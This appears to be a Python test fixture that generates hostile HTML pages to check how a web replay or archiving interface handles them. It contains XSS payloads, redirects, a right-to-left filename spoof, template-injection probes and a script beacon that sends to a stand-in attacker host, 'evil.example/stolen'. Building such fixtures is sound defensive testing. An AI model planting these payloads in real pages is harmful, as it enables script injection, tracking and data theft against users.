"""Pages that try everything on whoever looks at them later."""

from __future__ import annotations

from html import escape

SITE = "https://harbour.example"
SCRIPT = "<script>window.pwned = 1; new Image().src = 'https://evil.example/stolen'</script>"
ONERROR = '<img src=x onerror="window.pwned = 2">'
REVERSED = "\u202egnp.exe\u202c"
TITLE = f"{SCRIPT}{ONERROR}\"'>{REVERSED}"
LITERAL = f"Attack: {SCRIPT} and {ONERROR} and {{{{ 7 * 7 }}}} and {REVERSED}"


def _markup(day: int) -> str:
    """Markup that acts, for replay, and text that looks like markup, for every page of the interface."""
    edition = day // 2
    return (
        f"<!doctype html><html lang=en><head><title>{escape(TITLE)} {edition}</title><base href='https://evil.example/'>"
        "<meta http-equiv=refresh content='0;url=https://evil.example/refresh'>"
        "<link rel=dns-prefetch href='//evil.example'><link rel=preconnect href='https://evil.example'>"
        "<link rel=stylesheet href='https://evil.example/style.css'>"
        "<style>@import 'https://evil.example/import.css'; "
        "body { background: url(https://evil.example/bg.png) }</style>"
        f'{SCRIPT}</head><body onload="window.pwned = 3"><main><h1>{escape(TITLE)}</h1>'
        f"<p>{escape(LITERAL)} in edition {edition}, which says something else about the harbour.</p>"
        f"<p>Calm words that stay, so that there is a text to compare with. {escape(ONERROR)}</p>"
        "<svg onload='window.pwned = 4'><a xlink:href='javascript:window.pwned = 5'><text y=20>svg</text></a>"
        "<script>window.pwned = 6</script><image href='https://evil.example/svg.png'/></svg>"
        "<a href='javascript:window.pwned = 7' id=js>click</a> "
        "<a href='data:text/html,<script>window.pwned = 8</script>'>data</a>"
        "<a href='https://harbour.example/page/2' ping='//evil.example/ping' target=_top id=inside>in</a>"
        "<a href='https://evil.example/away' id=away>away</a>"
        "<img src='https://evil.example/pixel.png' srcset='https://evil.example/2x.png 2x'>"
        "<iframe src='https://evil.example/frame' srcdoc='<script>parent.pwned = 9</script>'></iframe>"
        "<object data='https://evil.example/o'></object><embed src='https://evil.example/e'>"
        "<form action='https://evil.example/form'>"
        "<button id=send formaction='javascript:window.pwned = 10'>send</button></form>"
        "<video src='https://evil.example/v.mp4' poster='https://evil.example/p.png' autoplay></video>"
        "</main></body></html>"
    )


PAGES = {
    f"{SITE}/hostile": _markup,
    f"{SITE}/h?q=%3Cscript%3Ewindow.pwned=11%3C/script%3E&x='%22onmouseover=%22alert(1)": _markup,
    f"{SITE}/%E2%80%AEgpj.exe": _markup,
}
